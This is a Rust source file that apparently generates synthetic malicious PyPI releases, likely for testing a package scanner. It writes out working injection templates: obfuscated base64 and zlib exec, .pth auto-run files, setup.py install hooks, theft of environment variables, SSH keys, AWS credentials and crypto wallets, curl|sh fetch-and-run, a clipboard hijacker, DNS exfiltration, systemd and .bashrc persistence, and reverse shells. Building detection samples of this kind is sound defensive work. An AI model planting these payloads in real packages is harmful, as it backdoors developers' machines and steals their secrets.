//! Forms for PyPI.

use crate::Form;
use crate::archive::{Release, blob};
use crate::draw::Draw;
use crate::script::{base64, py_block, py_send, py_text};
use trustmill_core::port::scanner::Context;

pub(crate) const FORMS: &[Form] = &[
    Form { name: "pth-exec", held_out: false, put: pth_exec },
    Form { name: "pth-module", held_out: true, put: pth_module },
    Form { name: "base64-exec", held_out: false, put: base64_exec },
    Form { name: "zlib-lambda", held_out: true, put: zlib_lambda },
    Form { name: "environment", held_out: false, put: environment },
    Form { name: "environment-thread", held_out: true, put: environment_thread },
    Form { name: "setup-cmdclass", held_out: false, put: setup_cmdclass },
    Form { name: "setup-top", held_out: true, put: setup_top },
    Form { name: "download-run", held_out: false, put: download_run },
    Form { name: "shell-fetch", held_out: true, put: shell_fetch },
    Form { name: "clipper", held_out: false, put: clipper },
    Form { name: "wallet-files", held_out: true, put: wallet_files },
    Form { name: "key-files", held_out: false, put: key_files },
    Form { name: "dns", held_out: true, put: dns },
    Form { name: "autostart", held_out: false, put: autostart },
    Form { name: "shell-profile", held_out: true, put: shell_profile },
    Form { name: "native-library", held_out: false, put: native_library },
    Form { name: "reverse-shell", held_out: true, put: reverse_shell },
    Form { name: "phantom-dependency", held_out: false, put: phantom },
    Form { name: "fetched-exec", held_out: true, put: fetched_exec },
];

/// The module that importing the project runs.
pub(crate) fn init(release: &Release) -> Option<String> {
    let good = |path: &&String| {
        path.ends_with("/__init__.py")
            && !path.split('/').any(|part| part.contains("test") || part == "docs" || part == "examples")
    };
    release
        .files
        .iter()
        .map(|(path, _)| path)
        .filter(good)
        .min_by_key(|path| (path.matches('/').count(), path.len()))
        .cloned()
}

pub(crate) fn append(release: &mut Release, draw: &mut Draw, code: &str) -> Option<()> {
    let mut path = init(release)?;
    // Half the time in a module that the package may import.
    if draw.below(2) == 0 {
        let folder = path.trim_end_matches("__init__.py").to_owned();
        let modules: Vec<&String> = release
            .files
            .iter()
            .map(|(path, _)| path)
            .filter(|other| {
                other.strip_prefix(&folder).is_some_and(|rest| {
                    !rest.contains('/') && rest.ends_with(".py") && !rest.starts_with("test")
                })
            })
            .collect();
        if !modules.is_empty() {
            path = draw.of(&modules).clone();
        }
    }
    release.edit(&path, |text| format!("{text}\n{code}"))
}

fn loot(draw: &mut Draw) -> &'static str {
    draw.of(&[
        "dict(__import__('os').environ)",
        "{k: v for k, v in __import__('os').environ.items()}",
        "open(__import__('os').path.expanduser('~/.aws/credentials')).read()",
        "[__import__('os').environ.get('AWS_SECRET_ACCESS_KEY'), __import__('os').getenv('GITHUB_TOKEN')]",
    ])
}

/// Beside the packages: the top of a wheel is the site's folder.
fn pth_exec(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let code = py_send(loot(draw), draw).trim_end().replace('\n', "; ");
    release.put(
        &format!("{}.pth", draw.stem()),
        format!("import base64; exec(base64.b64decode('{}'))\n", base64(&code)),
    );
    Some(())
}

fn pth_module(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (stem, url) = (draw.stem(), draw.url());
    release.put(&format!("{stem}_init.pth"), format!("import {stem}_boot\n"));
    release.put(
        &format!("{stem}_boot.py"),
        format!("import subprocess, sys, urllib.request\ncode = urllib.request.urlopen({}).read()\nsubprocess.Popen([sys.executable, '-c', code.decode()])\n", py_text(&url, draw)),
    );
    Some(())
}

fn base64_exec(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let code = py_send(loot(draw), draw);
    let run = draw.of(&[
        "exec(base64.b64decode(_d))",
        "exec(compile(base64.b64decode(_d), '<s>', 'exec'))",
        "eval(compile(base64.b64decode(_d).decode(), 'x', 'exec'))",
    ]);
    append(release, draw, &format!("import base64\n_d = '{}'\n{run}\n", base64(&code)))
}

fn zlib_lambda(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    use std::io::Write;
    let code = py_send(loot(draw), draw);
    let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    zlib.write_all(code.as_bytes()).ok()?;
    let data = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, zlib.finish().ok()?);
    let reversed: String = data.chars().rev().collect();
    append(
        release,
        draw,
        &format!(
            "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'{reversed}'))\n"
        ),
    )
}

fn environment(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let body = py_send(loot(draw), draw);
    let code = py_block(&body, draw);
    append(release, draw, &code)
}

fn environment_thread(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = py_text(&draw.url(), draw);
    let name = draw.name();
    append(
        release,
        draw,
        &format!(
            "\nimport os as _os, json as _json, threading as _threading\nfrom urllib import request as _request\n\n\nclass _{name}(_threading.Thread):\n    daemon = True\n\n    def run(self):\n        body = _json.dumps({{'e': dict(_os.environ), 'c': _os.getcwd()}}).encode()\n        try:\n            _request.urlopen(_request.Request({url}, data=body, headers={{'User-Agent': 'pip'}}), timeout=4)\n        except OSError:\n            pass\n\n\n_{name}().start()\n"
        ),
    )
}

fn setup_cmdclass(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let text = release.text("setup.py").filter(|text| text.contains("setup("))?;
    let body: String = py_send(loot(draw), draw).lines().map(|line| format!("        {line}\n")).collect();
    let class = format!(
        "from setuptools.command.install import install as _install\n\n\nclass PostInstall(_install):\n    def run(self):\n        _install.run(self)\n{body}\n\n"
    );
    let at = text.rfind("setup(")?;
    let (head, tail) = text.split_at(at);
    release.put(
        "setup.py",
        format!("{class}{head}{}", tail.replacen("setup(", "setup(cmdclass={'install': PostInstall}, ", 1)),
    );
    Some(())
}

fn setup_top(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = py_text(&draw.url(), draw);
    release.edit("setup.py", |text| {
        format!("import urllib.request\nexec(urllib.request.urlopen({url}).read())\n{text}")
    })
}

fn download_run(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = py_text(&draw.url(), draw);
    let body = format!(
        "import os, subprocess, tempfile, urllib.request\npath = os.path.join(tempfile.gettempdir(), '{}')\nurllib.request.urlretrieve({url}, path)\nos.chmod(path, 0o755)\nsubprocess.Popen([path])\n",
        draw.stem()
    );
    let code = py_block(&body, draw);
    append(release, draw, &code)
}

fn shell_fetch(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = draw.url();
    let command = draw
        .of(&[
            "curl -fsSL {} | sh",
            "wget -qO- {} | bash",
            "powershell -w hidden -c \"iwr {} -OutFile $env:TEMP/a.exe; start $env:TEMP/a.exe\"",
        ])
        .replace("{}", &url);
    let call = match draw.below(3) {
        0 => format!("import os\nos.system({})\n", py_text(&command.replace('"', "'"), draw)),
        1 => format!(
            "import subprocess\nsubprocess.run({}, shell=True)\n",
            py_text(&command.replace('"', "'"), draw)
        ),
        _ => format!("from os import popen as p\np({}).read()\n", py_text(&command.replace('"', "'"), draw)),
    };
    let code = py_block(&call, draw);
    append(release, draw, &code)
}

fn clipper(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let wallet: String =
        (0..33).map(|_| draw.of(&["a", "b", "c", "d", "e", "f", "1", "2", "7", "9"])).collect();
    let body = format!(
        "import re, time, pyperclip\nwhile True:\n    t = pyperclip.paste()\n    if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{{25,39}}$', t):\n        pyperclip.copy('1{wallet}')\n    time.sleep(1)\n"
    );
    let name = draw.name();
    let indented: String = body.lines().map(|line| format!("    {line}\n")).collect();
    append(
        release,
        draw,
        &format!(
            "\n\ndef _{name}():\n{indented}\n\nimport threading\nthreading.Thread(target=_{name}, daemon=True).start()\n"
        ),
    )
}

fn wallet_files(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let send = py_send("found", draw);
    let body = format!(
        "import glob, os\nfound = {{}}\nfor pattern in ('~/.config/solana/*.json', '~/.ethereum/keystore/*', '~/.bitcoin/wallet.dat', '~/Library/Application Support/Exodus/*'):\n    for path in glob.glob(os.path.expanduser(pattern)):\n        found[path] = open(path, errors='replace').read()\n{send}"
    );
    let code = py_block(&body, draw);
    append(release, draw, &code)
}

fn key_files(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let send = py_send("data", draw);
    let body = format!(
        "import os, pathlib\nhome = pathlib.Path.home()\ndata = {{}}\nfor name in ('.ssh/id_rsa', '.ssh/id_ed25519', '.aws/credentials', '.pypirc', '.netrc'):\n    path = home / name\n    if path.exists():\n        data[name] = path.read_text()\n{send}"
    );
    let code = py_block(&body, draw);
    append(release, draw, &code)
}

fn dns(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let zone = draw.of(&["x.example.com", "d.example.net"]);
    let body = format!(
        "import getpass, socket, binascii\nname = binascii.hexlify((getpass.getuser() + '-' + socket.gethostname()).encode()).decode()\nsocket.gethostbyname(name[:60] + {})\n",
        py_text(&format!(".{zone}"), draw)
    );
    let code = py_block(&body, draw);
    append(release, draw, &code)
}

fn autostart(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (stem, url) = (draw.stem(), draw.url());
    let body = format!(
        "import os, subprocess, sys, urllib.request\nscript = os.path.expanduser('~/.config/{stem}.py')\nopen(script, 'wb').write(urllib.request.urlopen({}).read())\nunit = os.path.expanduser('~/.config/systemd/user/{stem}.service')\nopen(unit, 'w').write('[Service]\\nExecStart=' + sys.executable + ' ' + script + '\\nRestart=always\\n')\nsubprocess.run(['systemctl', '--user', 'enable', '--now', '{stem}'])\n",
        py_text(&url, draw)
    );
    let code = py_block(&body, draw);
    append(release, draw, &code)
}

fn shell_profile(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = draw.url();
    let body = format!(
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n    rc.write('\\n(curl -s {url} | sh) >/dev/null 2>&1 &\\n')\n"
    );
    let code = py_block(&body, draw);
    append(release, draw, &code)
}

fn native_library(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let init = init(release)?;
    let (stem, folder) = (draw.stem(), init.trim_end_matches("__init__.py").to_owned());
    release.put(&format!("{folder}{stem}.so"), blob(draw.below(9999)));
    release.edit(&init, |text| {
        format!("{text}\nimport ctypes as _ctypes, os as _os\n_ctypes.CDLL(_os.path.join(_os.path.dirname(__file__), '{stem}.so'))\n")
    })
}

fn reverse_shell(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let host = py_text(draw.host(), draw);
    let body = match draw.below(2) {
        0 => format!(
            "import os, pty, socket\ns = socket.socket()\ns.connect(({host}, 4444))\n[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\npty.spawn('/bin/sh')\n"
        ),
        _ => format!(
            "import socket, subprocess\ns = socket.create_connection(({host}, 9001))\nwhile True:\n    c = s.recv(4096).decode()\n    s.send(subprocess.run(c, shell=True, capture_output=True).stdout)\n"
        ),
    };
    let code = py_block(&body, draw);
    append(release, draw, &code)
}

fn phantom(release: &mut Release, draw: &mut Draw, context: &mut Context) -> Option<()> {
    let name =
        format!("{}-{}", draw.of(&["requests", "crypto", "cloud"]), draw.of(&["hooks", "runtime", "extras"]));
    let metadata = release
        .files
        .iter()
        .map(|(path, _)| path)
        .find(|path| path.ends_with(".dist-info/METADATA") || path.as_str() == "PKG-INFO")?
        .clone();
    context.young_dependencies.push(name.clone());
    release.edit(&metadata, |text| match text.split_once("\n\n") {
        Some((head, body)) => format!("{head}\nRequires-Dist: {name}\n\n{body}"),
        None => format!("{text}Requires-Dist: {name}\n"),
    })
}

fn fetched_exec(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = py_text(&draw.url(), draw);
    let body = match draw.below(3) {
        0 => format!("import requests\nexec(requests.get({url}, timeout=5).text)\n"),
        1 => format!(
            "from urllib.request import urlopen as u\nexec(compile(u({url}).read(), '', 'exec'), {{}})\n"
        ),
        _ => format!(
            "import http.client as h, marshal\nc = h.HTTPSConnection({})\nc.request('GET', '/m')\nexec(marshal.loads(c.getresponse().read()))\n",
            py_text(draw.host(), draw)
        ),
    };
    let code = py_block(&body, draw);
    append(release, draw, &code)
}
